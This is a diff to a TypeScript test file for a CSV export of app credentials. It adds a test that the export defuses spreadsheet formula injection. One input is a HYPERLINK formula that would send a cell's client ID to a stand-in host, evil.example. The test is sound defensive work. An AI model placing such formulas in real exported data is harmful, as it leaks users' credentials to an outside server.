@@ -36,7 +36,7 @@ describe('lifecycleFacts', () => {
   });
 
   it('account linking needs both environments, each with all four URLs', () => {
-    const staging = { savedAt: saved, environment: 'STAGING', ...urls };
+    const staging = { savedAt: saved, environment: 'STAGING' as 'STAGING' | 'PRODUCTION', ...urls };
     expect(lifecycleFacts({ ...none, accountLinkings: [staging] }).accountLinkingComplete).toBe(false);
     expect(lifecycleFacts({ ...none, accountLinkings: [staging, { ...staging, environment: 'PRODUCTION', webhookUrl: ' ' }] }).accountLinkingComplete).toBe(false);
     expect(lifecycleFacts({ ...none, accountLinkings: [staging, { ...staging, environment: 'PRODUCTION' }] }).accountLinkingComplete).toBe(true);
@@ -57,5 +57,14 @@ describe('credentialsCsv', () => {
   it('quotes fields with commas, quotes or line breaks (RFC 4180) and ends records with CRLF', () => {
     const csv = credentialsCsv('A "quoted",\nname', { clientId: 'ring_cid_1', clientSecret: 'ring_csec_2', hmacSignatureKey: 'ring_hmac_3' });
     expect(csv).toBe('App name,Client ID,Client Secret,HMAC Signature Key\r\n"A ""quoted"",\nname",ring_cid_1,ring_csec_2,ring_hmac_3\r\n');
+  });
+
+  it('defuses an app name a spreadsheet would run as a formula', () => {
+    const plain = { clientId: 'ring_cid_1', clientSecret: 'ring_csec_2', hmacSignatureKey: 'ring_hmac_3' };
+    for (const name of ['=HYPERLINK("https://evil.example/?"&A2,"x")', '+1+1', '-2+3', '@SUM(1)']) {
+      const record = credentialsCsv(name, plain).split('\r\n')[1]!;
+      expect(record.replace(/^"/, ''), name).toMatch(/^'/);
+    }
+    expect(credentialsCsv('Home Guardian', plain).split('\r\n')[1]).toBe('Home Guardian,ring_cid_1,ring_csec_2,ring_hmac_3');
   });
 });
